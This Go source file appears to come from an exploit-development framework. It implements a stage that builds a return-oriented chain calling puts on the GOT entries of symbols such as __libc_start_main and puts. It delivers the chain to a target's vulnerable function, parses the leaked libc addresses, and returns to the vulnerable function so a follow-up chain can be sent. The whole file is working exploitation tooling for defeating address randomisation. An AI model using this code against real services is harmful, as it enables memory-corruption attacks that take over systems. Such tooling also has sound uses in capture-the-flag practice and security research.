package exploit

import (
	"bytes"
	"errors"
	"fmt"
	"time"
)

const (
	// DefaultLeakPrimitive is the function called on GOT entries to
	// print their contents when LeakConfig.OptPrimitive is empty.
	DefaultLeakPrimitive = "puts"

	// DefaultCleanTimeout is how long the target must stay quiet
	// before a chain is delivered when LeakConfig.OptCleanTimeout
	// is zero.
	DefaultCleanTimeout = time.Second
)

// LeakConfig configures the LeakAddresses stage.
type LeakConfig struct {
	// Symbols are the imported symbols whose runtime addresses
	// are leaked from the GOT, in order.
	Symbols []string

	// OptPrimitive is the output function called with each GOT
	// entry's address. Defaults to DefaultLeakPrimitive.
	OptPrimitive string

	// OptCleanTimeout is the quiet period used to discard pending
	// target output before delivery. Defaults to DefaultCleanTimeout.
	OptCleanTimeout time.Duration
}

// LeakPuts returns a Stage that leaks the runtime addresses of
// "__libc_start_main" and "puts" by calling puts on their GOT entries.
func LeakPuts() Stage {
	return LeakAddresses(LeakConfig{
		Symbols: []string{"__libc_start_main", "puts"},
	})
}

// LeakAddresses returns a Stage that leaks the runtime address of
// each symbol by delivering a chain that calls the leak primitive on
// the symbol's GOT entry, then returns to the vulnerable function so
// the target accepts another chain. Each call produces one line of
// output that is parsed as a little or big endian address according
// to the binary's byte order.
func LeakAddresses(config LeakConfig) Stage {
	return Stage{
		Name: "leak addresses",
		Run: func(s *State) (*State, error) {
			return leakAddresses(s, config)
		},
	}
}

func leakAddresses(s *State, config LeakConfig) (*State, error) {
	err := s.checkInitialized()
	if err != nil {
		return s, err
	}

	deliverer, err := s.Deliverer()
	if err != nil {
		return s, err
	}

	if s.Target == nil {
		return s, ErrNoTarget
	}

	if len(config.Symbols) == 0 {
		return s, errors.New("no symbols to leak were specified")
	}

	primitive := config.OptPrimitive
	if primitive == "" {
		primitive = DefaultLeakPrimitive
	}

	quiet := config.OptCleanTimeout
	if quiet == 0 {
		quiet = DefaultCleanTimeout
	}

	chain, err := s.NewChain()
	if err != nil {
		return s, err
	}

	for _, symbol := range config.Symbols {
		got, err := s.Binary.GOT(symbol)
		if err != nil {
			return s, fmt.Errorf("failed to find GOT entry of %q - %w", symbol, err)
		}

		err = chain.AlignedCall(primitive, got)
		if err != nil {
			return s, fmt.Errorf("failed to add %s(GOT[%s]) to chain - %w", primitive, symbol, err)
		}
	}

	err = chain.AlignedCall(s.VulnFunction)
	if err != nil {
		return s, fmt.Errorf("failed to add return to %s to chain - %w", s.VulnFunction, err)
	}

	s.Logger().Debugf("leak chain:\n%s", chain.Dump())

	raw, err := chain.Bytes()
	if err != nil {
		return s, fmt.Errorf("failed to serialize leak chain - %w", err)
	}

	_, err = s.Target.Clean(quiet)
	if err != nil {
		return s, fmt.Errorf("failed to discard pending target output - %w", err)
	}

	err = deliverer.Deliver(raw)
	if err != nil {
		return s, fmt.Errorf("failed to deliver leak chain - %w", err)
	}

	for _, symbol := range config.Symbols {
		line, err := s.Target.ReadLine()
		if err != nil {
			return s, fmt.Errorf("failed to read leaked address of %q - %w", symbol, err)
		}

		address, err := s.Context.Pointers.FromLeak(bytes.TrimSuffix(line, []byte("\n")))
		if err != nil {
			return s, fmt.Errorf("failed to parse leaked address of %q - %w", symbol, err)
		}

		s.Logger().Infof("leaked %s: 0x%x", symbol, address)

		s.leaks().Record(symbol, address)
	}

	return s, nil
}
